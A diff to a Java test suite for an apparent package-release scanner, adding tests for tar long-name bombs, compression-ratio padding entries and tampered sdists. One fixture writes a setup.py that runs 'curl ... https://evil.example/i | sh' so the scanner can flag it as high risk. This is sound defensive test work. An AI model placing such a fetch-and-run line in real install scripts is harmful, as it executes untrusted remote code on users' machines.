@@ -199,7 +199,7 @@ class InstallerViewScanTest {
     }
 
     @Test
-    void aLongNameBombIsAnErrorRowWithTheReasonAndTheNextVersionIsScanned() throws Exception {
+    void aLongNameBombIsDivergentWithTheReasonAndTheNextVersionIsScanned() throws Exception {
         try (ScanWorld w = world(dir)) {
             Path bomb = dir.resolve("bomb.tar.gz");
             HostileArchives.longNameBomb(bomb, 4L << 30, 48);
@@ -215,10 +215,51 @@ class InstallerViewScanTest {
             }
             assertEquals(List.of("1.0.0", "1.0.1"), reports.stream().map(x -> x.release().version()).toList());
             ReleaseReport first = reports.get(0);
-            assertEquals(Verdict.ERROR, first.verdict());
+            // Refused by a limit: the publisher's doing, never only "could not tell".
+            assertEquals(Verdict.DIVERGENT, first.verdict());
             assertEquals(SDIST + ": limit exceeded: tar GNU long name header declares 4294967296 bytes (at most 1048576 "
                     + "are read)", first.reason().orElseThrow());
             assertEquals(Verdict.EXPLAINED, reports.get(1).verdict(), reports.get(1).reason().toString());
+        }
+    }
+
+    @Test
+    void aPaddingEntryOverTheRatioLimitIsLeftUnreadAndTheSetupPyAfterItIsStillJudged() throws Exception {
+        try (ScanWorld w = world(dir)) {
+            // 48 MiB of zeros first (gzip makes ~50 KB of it), then the sdist with a setup.py that runs a payload.
+            List<Map.Entry<String, byte[]>> entries = new ArrayList<>();
+            entries.add(Map.entry("demo-1.0.0/pad/blank.bin", new byte[48 << 20]));
+            for (Map.Entry<String, byte[]> e : cleanSdist()) {
+                entries.add(e.getKey().equals("demo-1.0.0/setup.py") ? Map.entry(e.getKey(), utf8(
+                        "import os\nos.system('curl -s https://evil.example/i | sh')\nfrom setuptools import setup\nsetup()\n"))
+                        : e);
+            }
+            ReleaseReport r = scanSdist(w, gzip(tar(entries, true)));
+            ArtifactReport a = artifact(r, ".tar.gz");
+            FileDivergence pad = rows(a, "demo-1.0.0/pad/blank.bin").get(0);
+            assertTrue(pad.riskFlags().contains(RiskFlag.LIMIT_EXCEEDED), pad.riskFlags().toString());
+            assertEquals(FileStatus.PHANTOM, pad.status());
+            FileDivergence setup = rows(a, "demo-1.0.0/setup.py").get(0);
+            assertEquals(FileStatus.MODIFIED, setup.status());
+            assertTrue(setup.highRisk());
+            assertEquals(FileStatus.MATCH, rows(a, "demo-1.0.0/demo/core.py").get(0).status());
+            assertEquals(List.of("demo-1.0.0/setup.py"), a.highRiskPaths());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+            assertTrue(a.reason().orElseThrow().contains("demo-1.0.0/pad/blank.bin inflates beyond the per-entry "
+                    + "compression-ratio limit"), a.reason().orElseThrow());
+        }
+    }
+
+    @Test
+    void aPaddingEntryAloneMakesAnOtherwiseCleanSdistDivergent() throws Exception {
+        try (ScanWorld w = world(dir)) {
+            List<Map.Entry<String, byte[]>> entries = new ArrayList<>(cleanSdist());
+            entries.add(0, Map.entry("demo-1.0.0/PKG-INFO", new byte[48 << 20])); // a generated name explains nothing
+            ReleaseReport r = scanSdist(w, gzip(tar(entries, true)));
+            ArtifactReport a = artifact(r, ".tar.gz");
+            assertTrue(rows(a, "demo-1.0.0/PKG-INFO").get(0).riskFlags().contains(RiskFlag.LIMIT_EXCEEDED));
+            assertEquals(Verdict.DIVERGENT, a.verdict());
+            assertEquals(List.of(), a.highRiskPaths());
         }
     }
 
